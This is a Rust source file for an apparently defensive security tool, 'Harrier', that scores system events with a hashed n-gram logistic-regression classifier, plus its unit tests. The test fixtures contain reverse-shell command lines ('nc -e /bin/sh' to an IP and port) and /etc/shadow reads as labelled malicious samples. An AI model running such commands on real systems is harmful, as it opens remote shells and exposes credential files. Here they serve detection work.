//! The learned scorer: an event rendered as text (see [`Observation::text`]), hashed character
//! n-grams as features, a logistic-regression classifier trained on rule hits (positives) and
//! benign events (negatives), and per-rule centroids that name the nearest rule for an alert.
//! Plain Rust, no model runtime: training a few thousand events takes well under a second, and
//! scoring is a few hundred hash-and-add operations per event.

use crate::obs::Observation;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::Path;

pub const FORMAT: &str = "harrier-scorer";
pub const VERSION: u32 = 1;

/// Feature space: 2^BITS hashed buckets.
const BITS: u32 = 18;
const NGRAM_MIN: usize = 3;
const NGRAM_MAX: usize = 5;
/// Buckets kept per rule centroid.
const CENTROID_TOP: usize = 256;

fn fnv(bytes: &[u8]) -> u32 {
    let mut h: u32 = FNV_OFFSET;
    for &b in bytes {
        h ^= b as u32;
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

/// The sparse, L2-normalised feature vector of a text: (bucket, weight), sorted by bucket.
pub fn features(text: &str) -> Vec<(u32, f32)> {
    let mut v: Vec<u32> = Vec::with_capacity(text.len() * (NGRAM_MAX - NGRAM_MIN + 1) + 32);
    // The 3–5-grams, and whole values (field=value tokens and path components) too.
    for_each_bucket(text, (1u32 << BITS) - 1, |h| v.push(h));
    v.sort_unstable();
    let mut out: Vec<(u32, f32)> = Vec::with_capacity(v.len());
    for h in v {
        match out.last_mut() {
            Some((k, c)) if *k == h => *c += 1.0,
            _ => out.push((h, 1.0)),
        }
    }
    let norm = out.iter().map(|(_, c)| c * c).sum::<f32>().sqrt().max(1e-6);
    for (_, c) in &mut out {
        *c /= norm;
    }
    out
}

const FNV_OFFSET: u32 = 0x811c_9dc5;
const FNV_PRIME: u32 = 0x0100_0193;

/// Every hashed feature of a text, unsorted, with repeats (the buckets [`features`] counts): the
/// 3-, 4- and 5-grams from each start position (the longer grams extend the shorter one's hash:
/// FNV-1a is a running hash, so each byte is hashed once per start position), then the whole
/// tokens.
#[inline]
fn for_each_bucket(text: &str, mask: u32, mut f: impl FnMut(u32)) {
    let b = text.as_bytes();
    for i in 0..b.len() {
        let mut h = FNV_OFFSET;
        for (j, &c) in b[i..].iter().take(NGRAM_MAX).enumerate() {
            h ^= c as u32;
            h = h.wrapping_mul(FNV_PRIME);
            if j + 1 >= NGRAM_MIN {
                f(h & mask);
            }
        }
    }
    for tok in text.split([' ', '/', '=']) {
        if !tok.is_empty() {
            f((fnv(tok.as_bytes()).rotate_left(7) ^ 0x5bd1_e995) & mask);
        }
    }
}

/// Reusable buffers for scoring without allocating or sorting: a dense count per bucket (only
/// the touched ones are non-zero, and are zeroed again after each event) and the list of touched
/// buckets. One per scoring thread.
#[derive(Debug, Default)]
pub struct Scratch {
    counts: Vec<u16>,
    touched: Vec<u32>,
}

impl Scratch {
    pub fn new() -> Scratch {
        Scratch::default()
    }

    /// Count the text's buckets; returns the L2 norm of the counts.
    fn fill(&mut self, text: &str, bits: u32) -> f32 {
        let dim = 1usize << bits;
        if self.counts.len() != dim {
            self.counts = vec![0; dim];
        }
        self.touched.clear();
        let (counts, touched) = (&mut self.counts, &mut self.touched);
        for_each_bucket(text, (1u32 << bits) - 1, |h| {
            let c = &mut counts[h as usize];
            if *c == 0 {
                touched.push(h);
            }
            *c = c.saturating_add(1);
        });
        let sq: f32 = touched.iter().map(|&h| (counts[h as usize] as f32).powi(2)).sum();
        sq.sqrt().max(1e-6)
    }

    fn clear(&mut self) {
        for &h in &self.touched {
            self.counts[h as usize] = 0;
        }
        self.touched.clear();
    }
}

/// A trained model (the model file's content).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Model {
    pub format: String,
    pub version: u32,
    pub bits: u32,
    pub bias: f32,
    /// Scores at or above this raise an alert.
    pub threshold: f32,
    /// Non-zero weights, (bucket, weight).
    pub weights: Vec<(u32, f32)>,
    /// Per rule: its strongest centroid buckets.
    pub centroids: BTreeMap<String, Vec<(u32, f32)>>,
    /// Training counts, for `show`.
    pub trained_on: TrainStats,
    #[serde(skip)]
    dense: Vec<f32>,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrainStats {
    pub positives: u64,
    pub negatives: u64,
    pub epochs: u32,
}

/// One labelled example: the event's text and the rule it should be reported as (`None`: benign).
#[derive(Debug, Clone)]
pub struct Example {
    pub text: String,
    pub rule: Option<String>,
}

impl Example {
    pub fn from_observation(o: &Observation, malicious: bool) -> Example {
        Example { text: o.text(), rule: if malicious { o.matched.clone() } else { None } }
    }
}

fn sigmoid(x: f32) -> f32 {
    1.0 / (1.0 + (-x).exp())
}

/// Why a model file could not be used.
#[derive(Debug)]
pub struct ModelError(pub String);

impl std::fmt::Display for ModelError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for ModelError {}

impl Model {
    /// Train on labelled examples (positives: `rule` set). Class-balanced logistic regression,
    /// AdaGrad, L2 regularisation, a fixed number of passes in a fixed (seeded) order.
    pub fn train(examples: &[Example], threshold: f32) -> Model {
        let epochs = 12;
        let dim = 1usize << BITS;
        let feats: Vec<Vec<(u32, f32)>> = examples.iter().map(|e| features(&e.text)).collect();
        let pos = examples.iter().filter(|e| e.rule.is_some()).count().max(1) as f32;
        let neg = examples.iter().filter(|e| e.rule.is_none()).count().max(1) as f32;
        let total = pos + neg;
        let (wp, wn) = (total / (2.0 * pos), total / (2.0 * neg));
        let mut w = vec![0f32; dim];
        let mut g2 = vec![1e-6f32; dim];
        let (mut bias, mut bg2) = (0f32, 1e-6f32);
        let lr = 0.5f32;
        let l2 = 1e-5f32;
        let mut order: Vec<usize> = (0..examples.len()).collect();
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        for _ in 0..epochs {
            // Fisher-Yates with a fixed xorshift: the same data trains the same model.
            for i in (1..order.len()).rev() {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                order.swap(i, (seed % (i as u64 + 1)) as usize);
            }
            for &i in &order {
                let y = if examples[i].rule.is_some() { 1.0 } else { 0.0 };
                let cw = if y > 0.5 { wp } else { wn };
                let z = bias + feats[i].iter().map(|(k, x)| w[*k as usize] * x).sum::<f32>();
                let g = (sigmoid(z) - y) * cw;
                for (k, x) in &feats[i] {
                    let k = *k as usize;
                    let gk = g * x + l2 * w[k];
                    g2[k] += gk * gk;
                    w[k] -= lr * gk / g2[k].sqrt();
                }
                bg2 += g * g;
                bias -= lr * g / bg2.sqrt();
            }
        }
        let mut sums: BTreeMap<String, BTreeMap<u32, f32>> = BTreeMap::new();
        for (e, f) in examples.iter().zip(&feats) {
            if let Some(r) = &e.rule {
                let c = sums.entry(r.clone()).or_default();
                for (k, x) in f {
                    *c.entry(*k).or_default() += x;
                }
            }
        }
        let centroids = sums
            .into_iter()
            .map(|(r, c)| {
                let mut v: Vec<(u32, f32)> = c.into_iter().collect();
                v.sort_by(|a, b| b.1.total_cmp(&a.1));
                v.truncate(CENTROID_TOP);
                let n = v.iter().map(|(_, x)| x * x).sum::<f32>().sqrt().max(1e-6);
                v.iter_mut().for_each(|(_, x)| *x /= n);
                v.sort_by_key(|(k, _)| *k);
                (r, v)
            })
            .collect();
        let weights: Vec<(u32, f32)> =
            w.iter().enumerate().filter(|(_, x)| x.abs() > 1e-4).map(|(k, x)| (k as u32, *x)).collect();
        Model {
            format: FORMAT.into(),
            version: VERSION,
            bits: BITS,
            bias,
            threshold,
            weights,
            centroids,
            trained_on: TrainStats { positives: pos as u64, negatives: neg as u64, epochs },
            dense: w,
        }
    }

    fn ensure_dense(&mut self) {
        if self.dense.len() != 1usize << self.bits {
            let mut d = vec![0f32; 1usize << self.bits];
            for (k, x) in &self.weights {
                if let Some(s) = d.get_mut(*k as usize) {
                    *s = *x;
                }
            }
            self.dense = d;
        }
    }

    /// The probability that the text is what a rule would report.
    pub fn score(&self, text: &str) -> f32 {
        let f = features(text);
        self.score_features(&f)
    }

    fn score_features(&self, f: &[(u32, f32)]) -> f32 {
        let z = self.bias
            + f.iter().map(|(k, x)| self.dense.get(*k as usize).copied().unwrap_or(0.0) * x).sum::<f32>();
        sigmoid(z)
    }

    /// Score and nearest rule (highest cosine with its centroid).
    pub fn classify(&self, text: &str) -> (f32, Option<&str>) {
        let f = features(text);
        let s = self.score_features(&f);
        let mut best: Option<(&str, f32)> = None;
        for (r, c) in &self.centroids {
            let (mut i, mut j, mut dot) = (0, 0, 0f32);
            while i < f.len() && j < c.len() {
                match f[i].0.cmp(&c[j].0) {
                    std::cmp::Ordering::Less => i += 1,
                    std::cmp::Ordering::Greater => j += 1,
                    std::cmp::Ordering::Equal => {
                        dot += f[i].1 * c[j].1;
                        i += 1;
                        j += 1;
                    }
                }
            }
            if best.is_none_or(|(_, d)| dot > d) {
                best = Some((r, dot));
            }
        }
        (s, best.map(|b| b.0))
    }

    /// As [`Model::classify`], without sorting or allocating: the text's buckets are counted in
    /// `scratch` (reused from event to event), the score is a sum over the touched buckets and
    /// each rule's centroid is looked up in the counts. Same result as `classify` (up to float
    /// rounding); this is what the stage's worker uses.
    pub fn classify_with<'a>(&'a self, text: &str, scratch: &mut Scratch) -> (f32, Option<&'a str>) {
        let norm = scratch.fill(text, self.bits);
        let counts = &scratch.counts;
        let dot: f32 = scratch
            .touched
            .iter()
            .map(|&h| self.dense.get(h as usize).copied().unwrap_or(0.0) * counts[h as usize] as f32)
            .sum();
        let s = sigmoid(self.bias + dot / norm);
        let mut best: Option<(&str, f32)> = None;
        for (r, c) in &self.centroids {
            let d: f32 =
                c.iter().map(|(k, x)| counts.get(*k as usize).copied().unwrap_or(0) as f32 * x).sum::<f32>()
                    / norm;
            if best.is_none_or(|(_, b)| d > b) {
                best = Some((r, d));
            }
        }
        scratch.clear();
        (s, best.map(|b| b.0))
    }

    pub fn parse(data: &[u8]) -> Result<Model, ModelError> {
        let v: serde_json::Value = serde_json::from_slice(data)
            .map_err(|e| ModelError(format!("not a model file (invalid JSON: {e})")))?;
        let format = v.get("format").and_then(|f| f.as_str()).unwrap_or("");
        if format != FORMAT {
            return Err(ModelError(format!("not a model file (format '{format}', expected '{FORMAT}')")));
        }
        let version = v.get("version").and_then(|f| f.as_u64()).unwrap_or(0);
        if version == 0 || version > VERSION as u64 {
            return Err(ModelError(format!(
                "model file version {version} is not supported (this Harrier reads version {VERSION})"
            )));
        }
        let mut m: Model =
            serde_json::from_value(v).map_err(|e| ModelError(format!("damaged model file: {e}")))?;
        if !(8..=24).contains(&m.bits) {
            return Err(ModelError(format!(
                "damaged model file: {} feature bits (expected 8 to 24)",
                m.bits
            )));
        }
        if !m.threshold.is_finite() || !m.bias.is_finite() || m.weights.iter().any(|(_, x)| !x.is_finite()) {
            return Err(ModelError("damaged model file: a weight is not a finite number".into()));
        }
        m.ensure_dense();
        Ok(m)
    }

    pub fn load(path: &Path) -> Result<Model, ModelError> {
        let data = std::fs::read(path)
            .map_err(|e| ModelError(format!("cannot read the model file {}: {e}", path.display())))?;
        Self::parse(&data).map_err(|e| ModelError(format!("{}: {e}", path.display())))
    }

    pub fn save(&self, path: &Path) -> Result<(), ModelError> {
        let err =
            |e: std::io::Error| ModelError(format!("cannot write the model file {}: {e}", path.display()));
        let data = serde_json::to_vec(self).map_err(|e| ModelError(e.to_string()))?;
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, data).map_err(err)?;
        std::fs::rename(&tmp, path).map_err(err)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ex(text: &str, rule: Option<&str>) -> Example {
        Example { text: text.into(), rule: rule.map(String::from) }
    }

    fn data() -> Vec<Example> {
        let mut v = Vec::new();
        for p in ["cat", "head", "python3", "perl", "less"] {
            v.push(ex(
                &format!("evt.type=openat proc.name={p} fd.name=/etc/shadow user.name=root"),
                Some("Read sensitive file"),
            ));
            v.push(ex(
                &format!(
                    "evt.type=execve proc.name=nc proc.pname={p} proc.cmdline=nc -e /bin/sh 10.0.0.1 4444"
                ),
                Some("Reverse shell"),
            ));
            v.push(ex(&format!("evt.type=openat proc.name={p} fd.name=/etc/hosts user.name=root"), None));
            v.push(ex(
                &format!("evt.type=openat proc.name={p} fd.name=/etc/ld.so.cache user.name=root"),
                None,
            ));
            v.push(ex(&format!("evt.type=execve proc.name=ls proc.pname={p} proc.cmdline=ls -l"), None));
        }
        v.push(ex("evt.type=openat proc.name=sshd fd.name=/etc/shadow user.name=root", None));
        v
    }

    #[test]
    fn features_are_normalised_and_sorted() {
        let f = features("evt.type=openat fd.name=/etc/shadow");
        assert!(f.windows(2).all(|w| w[0].0 < w[1].0));
        let n: f32 = f.iter().map(|(_, x)| x * x).sum();
        assert!((n - 1.0).abs() < 1e-4);
        assert!(features("ab").len() <= 2);
    }

    #[test]
    fn trained_model_separates_and_names_the_nearest_rule() {
        let m = Model::train(&data(), 0.5);
        let mut m = Model::parse(&serde_json::to_vec(&m).unwrap()).unwrap();
        m.ensure_dense();
        // A neighbour syscall and a program never seen in training.
        let (s, r) = m.classify("evt.type=openat2 proc.name=vim fd.name=/etc/shadow user.name=root");
        assert!(s > 0.5, "score {s}");
        assert_eq!(r, Some("Read sensitive file"));
        let (s, r) = m.classify(
            "evt.type=execveat proc.name=nc proc.pname=bash proc.cmdline=nc -e /bin/sh 1.2.3.4 4444",
        );
        assert!(s > 0.5, "score {s}");
        assert_eq!(r, Some("Reverse shell"));
        let s = m.score("evt.type=openat proc.name=vim fd.name=/etc/hosts user.name=root");
        assert!(s < 0.5, "benign score {s}");
    }

    #[test]
    fn the_scratch_path_scores_and_names_as_the_sorted_path() {
        let m = Model::train(&data(), 0.5);
        let mut scratch = Scratch::new();
        for e in data().iter().chain([&ex("x", None), &ex("", None), &ex("évt=ü/€ /etc/shadow", None)]) {
            let (a, ra) = m.classify(&e.text);
            let (b, rb) = m.classify_with(&e.text, &mut scratch);
            assert!((a - b).abs() < 1e-5, "{}: {a} vs {b}", e.text);
            assert_eq!(ra, rb, "{}", e.text);
            assert!(
                scratch.touched.is_empty() && scratch.counts.iter().all(|c| *c == 0),
                "scratch left clean"
            );
        }
    }

    #[test]
    fn bad_model_files_give_clear_errors() {
        let bad = |d: &str| Model::parse(d.as_bytes()).unwrap_err().to_string();
        assert!(bad("nope").contains("invalid JSON"));
        assert!(bad(r#"{"format":"harrier-profiles","version":1}"#).contains("expected 'harrier-scorer'"));
        assert!(bad(r#"{"format":"harrier-scorer","version":2}"#).contains("not supported"));
        assert!(bad(r#"{"format":"harrier-scorer","version":1,"bits":18}"#).contains("damaged"));
        let mut m = Model::train(&data(), 0.5);
        m.bits = 40;
        assert!(Model::parse(&serde_json::to_vec(&m).unwrap())
            .unwrap_err()
            .to_string()
            .contains("feature bits"));
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("m.json");
        let m = Model::train(&data(), 0.7);
        m.save(&f).unwrap();
        let l = Model::load(&f).unwrap();
        assert_eq!((l.threshold, l.weights.len()), (0.7, m.weights.len()));
    }
}
